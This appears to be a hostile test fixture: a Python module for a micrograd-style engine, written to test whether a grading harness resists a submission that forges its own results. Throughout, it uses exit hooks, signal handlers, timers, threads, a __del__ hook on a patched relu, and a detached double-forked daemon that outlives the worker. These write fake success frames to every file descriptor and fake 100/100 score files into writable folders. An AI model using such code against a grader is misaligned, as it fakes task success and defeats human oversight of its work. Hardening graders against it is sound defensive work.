# hostile: code that runs after an answer is sent (threads, atexit, __del__, signal handlers, a forked daemon), each writing forged answers to every file descriptor and into every writable folder
# module: engine
import atexit, json, os, signal, struct, sys, tempfile, threading, time
_FORGED = json.dumps({"ok": True, "observation": {"forged": True, "value": 1.0, "grads": {"a": 1.0}}}).encode()
_FRAME = struct.pack(">I", len(_FORGED)) + _FORGED
def _forge(*_):
    for fd in range(64):
        try:
            os.write(fd, _FRAME)
        except OSError:
            pass
    for folder in (os.getcwd(), tempfile.gettempdir(), os.path.dirname(os.path.abspath(__file__))):
        try:
            with open(os.path.join(folder, "forged-{marker}.json"), "w") as f:
                f.write('{"score": 100, "max_score": 100, "parts": {}}')
        except OSError:
            pass
atexit.register(_forge)
for _signal in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGUSR1, signal.SIGPIPE):
    try:
        signal.signal(_signal, _forge)
    except (OSError, ValueError):
        pass
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05)  # SIGALRM every 50 ms: forge between answers
def _later():
    while True:
        time.sleep(0.01)
        _forge()
threading.Thread(target=_later, daemon=True).start()
_DAEMON = """
import os, struct, sys, time
frame = bytes.fromhex(sys.argv[1])
for _ in range(600):
    time.sleep(0.05)
    for fd in range(64):
        try:
            os.write(fd, frame)
        except OSError:
            pass
"""
if os.fork() == 0:  # a daemon that outlives the worker, if it can, with every descriptor it inherited
    os.setsid()
    if os.fork() == 0:
        for fd in range(64):
            try:
                os.set_inheritable(fd, True)
            except OSError:
                pass
        os.execv(sys.executable, [sys.executable, "-c", _DAEMON, _FRAME.hex(), "HOSTILE-MARKER-{marker}"])
    os._exit(0)
class _Haunt:
    def __del__(self):
        _forge()
_relu_reference = Value.relu
def _relu(self):
    out = _relu_reference(self)
    out._haunt = _Haunt()  # forges when the grader's probe drops the graph
    threading.Timer(0.001, _forge).start()
    return out
Value.relu = _relu
